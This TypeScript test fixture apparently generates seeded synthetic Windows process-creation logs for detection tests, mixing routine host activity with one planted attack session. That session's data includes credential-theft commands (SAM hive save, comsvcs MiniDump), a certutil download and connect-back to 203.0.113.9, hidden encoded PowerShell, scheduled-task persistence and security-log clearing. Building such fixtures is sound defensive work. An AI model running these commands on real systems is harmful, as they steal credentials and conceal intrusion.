import type { ColumnType } from '../../../src/lib/kql-type.ts'
import { type Cell, Table } from '../../../src/lib/table.ts'

/** One created process, in the words of event 4688. */
export interface MadeUpProcess {
  readonly time: number
  readonly host: string
  readonly account: string
  readonly logon: string
  readonly path: string
  readonly parent: string
  readonly command: string
}

export interface MadeUpLog {
  readonly table: Table
  /** Host, account and logon of the session with the attack in it. */
  readonly attack: { readonly host: string; readonly account: string; readonly logon: string }
}

export interface MadeUpHosts {
  readonly seed: number
  readonly hosts: number
  /** Processes of the attack. */
  readonly attack: number
  /** In a logon of its own, or amidst what the user does all day. */
  readonly where: 'own session' | 'user session'
  /** Leave out the command lines, as hosts do that are not told to log them. */
  readonly withoutCommandLines?: boolean
}

export const processLogColumns = [
  { name: 'TimeGenerated', type: 'datetime' },
  { name: 'Computer', type: 'string' },
  { name: 'Account', type: 'string' },
  { name: 'SubjectLogonId', type: 'string' },
  { name: 'NewProcessName', type: 'string' },
  { name: 'ParentProcessName', type: 'string' },
  { name: 'CommandLine', type: 'string' },
] as const satisfies readonly ColumnType[]

type Kind = readonly [parent: string, path: string, command: string]

const system = 'c:\\Windows\\System32\\'
const services: readonly Kind[] = [
  [`${system}services.exe`, `${system}svchost.exe`, `${system}svchost.exe -k netsvcs -p -s @service`],
  [`${system}svchost.exe`, `${system}taskhostw.exe`, 'taskhostw.exe'],
  [`${system}svchost.exe`, `${system}dllhost.exe`, `${system}DllHost.exe /Processid:{@guid}`],
  [`${system}svchost.exe`, `${system}wbem\\WmiPrvSE.exe`, `${system}wbem\\wmiprvse.exe -secured -Embedding`],
  [`${system}services.exe`, 'c:\\Program Files\\Corax Agent\\corax-agent.exe', '"corax-agent.exe" --collect @number'],
  [
    'c:\\Program Files\\Corax Agent\\corax-agent.exe',
    `${system}cmd.exe`,
    'cmd.exe /c ver > c:\\windows\\temp\\@hex.txt',
  ],
  ['c:\\Program Files\\Corax Agent\\corax-agent.exe', `${system}wbem\\WMIC.exe`, 'wmic.exe qfe list brief'],
  [`${system}cmd.exe`, `${system}conhost.exe`, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
  [
    `${system}svchost.exe`,
    'c:\\Program Files\\Ledger Backup\\lbackup.exe',
    'lbackup.exe -job @number -to \\\\nas@number\\b',
  ],
]

const office: readonly Kind[] = [
  [
    'c:\\Windows\\explorer.exe',
    'c:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"chrome.exe" --single-argument https://a@number.example/@hex',
  ],
  [
    'c:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    'c:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"chrome.exe" --type=renderer --field-trial-handle=@number,@number',
  ],
  [
    'c:\\Windows\\explorer.exe',
    'c:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    '"WINWORD.EXE" /n "C:\\Users\\x\\Documents\\report @number.docx"',
  ],
  [
    'c:\\Windows\\explorer.exe',
    'c:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
    '"EXCEL.EXE" "C:\\Users\\x\\Documents\\sheet @number.xlsx"',
  ],
  ['c:\\Windows\\explorer.exe', 'c:\\Program Files (x86)\\Palisade\\palisade.exe', '"palisade.exe" /case @number'],
  ['c:\\Program Files (x86)\\Palisade\\palisade.exe', `${system}splwow64.exe`, 'splwow64.exe @number'],
]

const developer: readonly Kind[] = [
  ['c:\\Program Files\\Microsoft VS Code\\Code.exe', 'c:\\Program Files\\Git\\cmd\\git.exe', 'git.exe status -z -u'],
  [
    'c:\\Program Files\\Microsoft VS Code\\Code.exe',
    'c:\\Program Files\\Git\\cmd\\git.exe',
    'git.exe log --format=%H -n @number',
  ],
  ['c:\\Program Files\\nodejs\\node.exe', `${system}cmd.exe`, 'cmd.exe /d /s /c "tsc -p @number"'],
  [`${system}cmd.exe`, 'c:\\Program Files\\nodejs\\node.exe', 'node  c:\\src\\app\\build-@number.js --watch'],
  [`${system}cmd.exe`, 'c:\\src\\tools\\fixtures\\mkdata.exe', 'mkdata.exe --rows @number --seed @number'],
  ['c:\\Windows\\explorer.exe', `${system}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell.exe -NoExit'],
  [
    `${system}WindowsPowerShell\\v1.0\\powershell.exe`,
    'c:\\Program Files\\Docker\\docker.exe',
    'docker run --rm -p @number:80 img@number',
  ],
  [`${system}WindowsPowerShell\\v1.0\\powershell.exe`, `${system}whoami.exe`, 'whoami'],
]

/** What a person does once in a while: each of these hardly ever. */
const odd: readonly Kind[] = [
  ['c:\\Windows\\explorer.exe', `${system}notepad.exe`, '"notepad.exe" c:\\users\\x\\todo.txt'],
  ['c:\\Windows\\explorer.exe', `${system}mstsc.exe`, '"mstsc.exe" /v:srv@number'],
  [
    'c:\\Windows\\explorer.exe',
    'c:\\Program Files\\7-Zip\\7zFM.exe',
    '"7zFM.exe" "C:\\Users\\x\\Downloads\\a@number.zip"',
  ],
  ['c:\\Windows\\explorer.exe', 'c:\\Users\\x\\Downloads\\ZoomInstaller.exe', '"ZoomInstaller.exe"'],
  [
    'c:\\Users\\x\\Downloads\\ZoomInstaller.exe',
    'c:\\Users\\x\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe',
    '"Zoom.exe" --action=setup',
  ],
  ['c:\\Windows\\explorer.exe', `${system}cmd.exe`, '"cmd.exe"'],
  [`${system}cmd.exe`, `${system}ipconfig.exe`, 'ipconfig'],
  [`${system}cmd.exe`, `${system}PING.EXE`, 'ping srv@number'],
  ['c:\\Windows\\explorer.exe', 'c:\\Program Files\\Paint.NET\\paintdotnet.exe', '"paintdotnet.exe" shot@number.png'],
]

/** Of an update, each process is seen once: the clump of rare processes that every host has at times. */
const update: readonly Kind[] = [
  [
    `${system}wuauclt.exe`,
    'c:\\Windows\\SoftwareDistribution\\Download\\Install\\kb@number-x64.exe',
    'kb@number-x64.exe /q /w',
  ],
  [
    'c:\\Windows\\SoftwareDistribution\\Download\\Install\\kb@number-x64.exe',
    'c:\\@hex\\setup@number.exe',
    'setup@number.exe /u /log @hex',
  ],
  ['c:\\@hex\\setup@number.exe', `${system}lodctr.exe`, 'lodctr.exe /r:@hex'],
  ['c:\\@hex\\setup@number.exe', `${system}regsvr32.exe`, 'regsvr32.exe /s @hex.dll'],
  ['c:\\@hex\\setup@number.exe', `${system}schtasks.exe`, 'schtasks.exe /create /tn u@number /xml @hex.xml'],
  [`${system}services.exe`, 'c:\\Program Files\\Vendor@word\\svc@word.exe', '"svc@word.exe" --service'],
]

const adminScript: readonly Kind[] = [
  [`${system}wsmprovhost.exe`, `${system}cmd.exe`, 'cmd.exe /c c:\\ops\\inventory.cmd @number'],
  [`${system}cmd.exe`, `${system}net.exe`, 'net localgroup administrators'],
  [`${system}net.exe`, `${system}net1.exe`, `${system}net1 localgroup administrators`],
  [`${system}cmd.exe`, `${system}sc.exe`, 'sc query type= service'],
  [`${system}cmd.exe`, `${system}systeminfo.exe`, 'systeminfo /fo csv'],
]

const attack: readonly Kind[] = [
  ['c:\\Users\\x\\Downloads\\invoice.scr', `${system}cmd.exe`, 'cmd.exe'],
  [`${system}cmd.exe`, `${system}whoami.exe`, 'whoami /all'],
  [`${system}cmd.exe`, `${system}nltest.exe`, 'nltest /domain_trusts'],
  [`${system}cmd.exe`, `${system}net.exe`, 'net group "domain admins" /domain'],
  [`${system}cmd.exe`, `${system}tasklist.exe`, 'tasklist /svc'],
  [`${system}cmd.exe`, `${system}reg.exe`, 'reg save hklm\\sam c:\\users\\public\\s.dat'],
  [
    `${system}cmd.exe`,
    `${system}rundll32.exe`,
    'rundll32 c:\\windows\\system32\\comsvcs.dll, MiniDump 612 c:\\perflogs\\l.dmp full',
  ],
  [`${system}cmd.exe`, `${system}certutil.exe`, 'certutil -urlcache -split -f http://203.0.113.9/p.exe p.exe'],
  [`${system}cmd.exe`, 'c:\\Users\\Public\\p.exe', 'p.exe -connect 203.0.113.9:443'],
  [
    'c:\\Users\\Public\\p.exe',
    `${system}WindowsPowerShell\\v1.0\\powershell.exe`,
    'powershell -nop -w hidden -enc SQBFAFgA@hex',
  ],
  [`${system}cmd.exe`, `${system}schtasks.exe`, 'schtasks /create /sc onlogon /tn upd /tr c:\\users\\public\\p.exe'],
  [`${system}cmd.exe`, `${system}wevtutil.exe`, 'wevtutil cl security'],
  [`${system}cmd.exe`, `${system}quser.exe`, 'quser'],
  [`${system}cmd.exe`, `${system}vssadmin.exe`, 'vssadmin list shadows'],
  [`${system}cmd.exe`, `${system}PING.EXE`, 'ping -n 1 10.0.0.@number'],
]

/** Days of a few hosts: services, an agent, updates, people of different habits, a developer, an admin's scripts, and one attack. Seeded. */
export function madeUpHosts({ seed, hosts, attack: size, where, withoutCommandLines }: MadeUpHosts): MadeUpLog {
  const random = generator(seed)
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!
  const fill = (text: string, fixed: string) =>
    text
      .replace(/@word/g, fixed)
      .replace(/@number/g, () => String(1 + Math.floor(random() * 9000)))
      .replace(/@hex/g, () =>
        Math.floor(random() * 0xffffffff)
          .toString(16)
          .padStart(8, '0'),
      )
      .replace(/@guid/g, '3eb3c877-1f16-487c-9050-104dbcd66683')
      .replace(/@service/g, () => pick(['wlidsvc', 'wisvc', 'BITS', 'Themes', 'gpsvc']))
  const processes: MadeUpProcess[] = []
  const run = (who: Pick<MadeUpProcess, 'host' | 'account' | 'logon'>, time: number, kind: Kind) => {
    const word = Math.floor(random() * 1e6).toString(36)
    const [parent, path, command] = kind.map((text) => fill(text, word))
    processes.push({ ...who, time, path: path!, parent: parent!, command: command! })
  }
  const day = 86_400
  const people: { readonly host: string; readonly account: string; readonly logon: string; readonly begin: number }[] =
    []
  for (let at = 0; at < hosts; at++) {
    const host = `ws${at + 1}.example.com`
    const service = { host, account: `EXAMPLE\\WS${at + 1}$`, logon: '0x3e7' }
    for (let count = 0; count < 600; count++) run(service, random() * 3 * day, pick(services))
    for (let updates = 0; updates < 3; updates++) {
      const begin = random() * 3 * day
      for (let count = 0; count < 12; count++) run(service, begin + count * 3, pick(update))
    }
    const habits = at % 3 === 0 ? developer : office
    for (let session = 0; session < 3; session++) {
      const begin = session * day + 8 * 3600
      const who = {
        host,
        account: `EXAMPLE\\user${at + 1}`,
        logon: `0x${(0x10000 + session * 4096 + at).toString(16)}`,
      }
      people.push({ ...who, begin })
      const length = 30 + Math.floor(random() * 250)
      for (let count = 0; count < length; count++) {
        run(who, begin + random() * 9 * 3600, random() < 0.03 ? pick(odd) : pick(habits))
      }
    }
    for (let session = 0; session < 2; session++) {
      const who = { host, account: 'EXAMPLE\\ops', logon: `0x${(0x90000 + session * 16).toString(16)}` }
      const begin = random() * 3 * day
      adminScript.forEach((kind, count) => {
        run(who, begin + count, kind)
      })
    }
  }
  const victim = pick(people)
  const logon = where === 'own session' ? '0x7f31ac' : victim.logon
  const account = where === 'own session' && random() < 0.5 ? 'EXAMPLE\\svc-print' : victim.account
  const target = { host: victim.host, account, logon }
  const begin = victim.begin + 3600 + random() * 6 * 3600
  for (let count = 0; count < size; count++) run(target, begin + count * 7, attack[count % attack.length]!)
  // A host may give the same logon id to somebody else: the ids above repeat from host to host on purpose.
  processes.sort((a, b) => a.time - b.time)
  return { table: tableOf(processes, withoutCommandLines ?? false), attack: target }
}

function tableOf(processes: readonly MadeUpProcess[], withoutCommandLines: boolean): Table {
  const start = Date.UTC(2024, 4, 6)
  return Table.fromRows(
    processLogColumns,
    processes.map(({ time, host, account, logon, path, parent, command }): Cell[] => [
      new Date(start + Math.round(time * 1000)).toISOString(),
      host,
      account,
      logon,
      path,
      parent,
      withoutCommandLines ? '' : command,
    ]),
  )
}

function generator(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}
